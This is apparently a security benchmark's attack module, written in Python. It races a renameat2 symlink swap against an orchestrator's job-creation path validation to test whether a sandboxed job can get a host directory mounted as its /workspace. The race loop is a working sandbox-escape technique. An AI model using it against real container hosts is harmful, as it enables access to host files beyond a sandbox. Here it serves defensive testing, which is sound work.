"""A job swaps a directory of its own project with a symlink to a host directory, in a tight
``renameat2(RENAME_EXCHANGE)`` loop, while ``CreateJob(project_dir=<its project>/sub)`` is
retried: does any accepted job get the host directory as ``/workspace``?

Job A runs the loop through the test agent's ``python`` action, so the orchestrator under attack
must run worker jobs with the test-agent image (``WORKER_IMAGE=ironclaw-test-agent:<tag>``);
otherwise the attack reports ``swap_loop_running: false`` and retries nothing. What an accepted
job has at ``/workspace`` is read from the host, through ``/proc/<pid>/root`` as root, else by
``stat`` run in its container.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import shutil
import tempfile
import time
import uuid
from pathlib import Path
from typing import Any

from bench.attacks import AttackTarget

SANDBOX_UID = 1000
RETRY_INTERVAL_S = 0.02  # between CreateJob attempts: a mount attack, not a CreateJob flood
LOOP_START_TIMEOUT_S = 60.0
# The task of job A (the test agent runs it with `call` at hand).
SWAP_LOOP = """
import ctypes, os
os.chdir("/workspace")
os.makedirs("sub", exist_ok=True)
if not os.path.lexists("decoy"):
    os.symlink({target!r}, "decoy")
libc = ctypes.CDLL(None, use_errno=True)
call("POST", "/status", {{"message": "swapping", "iteration": 1}})
while True:
    if libc.renameat2(-100, b"sub", -100, b"decoy", 2) != 0:
        raise OSError(ctypes.get_errno(), "renameat2(RENAME_EXCHANGE)")
"""


async def mount_swap(target: AttackTarget, stop: asyncio.Event) -> dict[str, Any]:
    """Runs until ``stop`` is set; returns what the retried CreateJob calls came to."""
    import docker
    import grpc
    from grpc import aio

    from ironclaw_client.api.v1 import jobs_pb2 as pb
    from ironclaw_client.api.v1 import jobs_pb2_grpc as pb_grpc

    host_dir = Path(tempfile.mkdtemp(prefix="ironclaw-attack-host-"))
    (host_dir / "marker").write_text("host only\n")
    _give_to_sandbox(host_dir)
    host_identity = _identity(host_dir)
    project = target.base_dir / "projects" / f"mount-swap-{uuid.uuid4().hex[:8]}"
    project.mkdir(parents=True)
    _give_to_sandbox(project)
    figures: dict[str, Any] = {
        "create_attempts": 0,
        "refused": 0,
        "start_failed": 0,
        "accepted": 0,
        "accepted_with_host_directory": 0,
        "accepted_with_other_directory": 0,
        "refusals": {},
        "swap_loop_running": False,
    }
    client = docker.from_env(timeout=60)
    channel = aio.insecure_channel(target.grpc_target)
    stub = pb_grpc.JobServiceStub(channel)
    attacker = ""
    try:
        job = await stub.CreateJob(
            pb.CreateJobRequest(
                task="python " + SWAP_LOOP.format(target=str(host_dir)),
                project_dir=str(project),
            )
        )
        attacker = job.job.job_id
        figures["swap_loop_running"] = await _swapping(project / "sub", stop)
        started = time.monotonic()
        while figures["swap_loop_running"] and not stop.is_set():
            figures["create_attempts"] += 1
            job_id = str(uuid.uuid4())
            try:
                await stub.CreateJob(
                    pb.CreateJobRequest(
                        task="sleep", job_id=job_id, project_dir=str(project / "sub")
                    )
                )
            except grpc.aio.AioRpcError as exc:
                if exc.code() == grpc.StatusCode.INVALID_ARGUMENT:
                    figures["refused"] += 1
                    reason = _reason(exc.details() or "")
                    figures["refusals"][reason] = figures["refusals"].get(reason, 0) + 1
                else:
                    figures["start_failed"] += 1
            else:
                figures["accepted"] += 1
                validated = _identity(project / "sub", follow=False)
                seen = await asyncio.to_thread(_mounted, client, job_id)
                if seen == host_identity:
                    figures["accepted_with_host_directory"] += 1
                elif seen is None or seen != validated:
                    figures["accepted_with_other_directory"] += 1
                await _end(stub, pb, job_id)
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(stop.wait(), RETRY_INTERVAL_S)
        figures["attack_s"] = round(time.monotonic() - started, 2)
        figures["host_directory_untouched"] = sorted(os.listdir(host_dir)) == ["marker"]
    finally:
        if attacker:
            await _end(stub, pb, attacker)
        await channel.close(grace=None)
        client.close()
        shutil.rmtree(host_dir, ignore_errors=True)
        shutil.rmtree(project, ignore_errors=True)
    figures["saw_wrong_directory"] = bool(
        figures["accepted_with_host_directory"] or figures["accepted_with_other_directory"]
    )
    return figures


async def _swapping(path: Path, stop: asyncio.Event) -> bool:
    """Whether ``path`` is seen both as a directory and as a link (job A's loop runs)."""
    kinds: set[bool] = set()
    deadline = time.monotonic() + LOOP_START_TIMEOUT_S
    while time.monotonic() < deadline and not stop.is_set():
        kinds.add(_is_link(path))
        if len(kinds) == 2:
            return True
        await asyncio.sleep(0.001 if kinds else 0.1)
    return False


def _is_link(path: Path) -> bool:
    return path.is_symlink()  # an lstat: not worth a thread


def _reason(message: str) -> str:
    for marker in ("lies inside", "symbolic link", "does not exist", "not writable"):
        if marker in message:
            return marker
    return message[:80]


def _identity(path: Path, follow: bool = True) -> tuple[int, int] | None:
    """Device and inode of ``path``; with ``follow=False``, of the real one of ``sub`` and
    ``decoy`` (the loop keeps exchanging their names)."""
    candidates = [path] if follow else [path, path.with_name("decoy")]
    for candidate in candidates:
        with contextlib.suppress(OSError):
            st = os.stat(candidate, follow_symlinks=follow)
            if follow or not candidate.is_symlink():
                return st.st_dev, st.st_ino
    return None


def _mounted(client: Any, job_id: str) -> tuple[int, int] | None:
    rows = client.api.containers(filters={"label": f"ironclaw.job_id={job_id}"})
    if not rows:
        return None
    container_id = rows[0]["Id"]
    pid = client.api.inspect_container(container_id)["State"]["Pid"]
    with contextlib.suppress(OSError):
        st = os.stat(f"/proc/{pid}/root/workspace", follow_symlinks=False)
        return st.st_dev, st.st_ino
    exec_id = client.api.exec_create(container_id, ["stat", "-c", "%d %i", "/workspace"])["Id"]
    fields = client.api.exec_start(exec_id).decode().split()
    return (int(fields[0]), int(fields[1])) if len(fields) == 2 else None


async def _end(stub: Any, pb: Any, job_id: str) -> None:
    with contextlib.suppress(Exception):
        await stub.StopJob(pb.StopJobRequest(job_id=job_id), timeout=60)
    with contextlib.suppress(Exception):
        await stub.CleanupJob(pb.CleanupJobRequest(job_id=job_id), timeout=60)


def _give_to_sandbox(path: Path) -> None:
    try:
        os.chown(path, SANDBOX_UID, SANDBOX_UID)
    except PermissionError:
        path.chmod(0o777)
